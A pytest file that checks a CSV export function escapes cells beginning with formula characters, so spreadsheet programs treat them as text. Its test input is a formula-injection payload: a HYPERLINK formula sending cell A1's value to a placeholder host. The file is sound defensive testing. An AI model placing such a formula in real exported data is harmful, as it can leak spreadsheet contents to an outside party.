"""Tables for spreadsheet programs: no cell of theirs is a formula."""

import csv

import pytest

from breastrig.core.documents import csv_table


def read(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(content.decode().splitlines(keepends=True)))


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_would_be_a_formula_is_a_text(sign: str) -> None:
    formula = f'{sign}HYPERLINK("http://x.test/?"&A1,"a")'
    (row,) = read(csv_table(["name", formula], [{"name": formula, formula: 1}]))
    assert row == {"name": "'" + formula, "'" + formula: "1"}


def test_numbers_and_other_texts_are_as_they_are() -> None:
    cells = {"a": -1.5, "b": "-1.5e-3", "c": '3-D, "quoted"', "d": None, "e": "+2", "f": "'=1"}
    (row,) = read(csv_table([*cells, "none"], [cells]))
    wanted = {"a": "-1.5", "b": "-1.5e-3", "c": '3-D, "quoted"', "d": "", "e": "+2", "f": "'=1", "none": ""}
    assert row == wanted
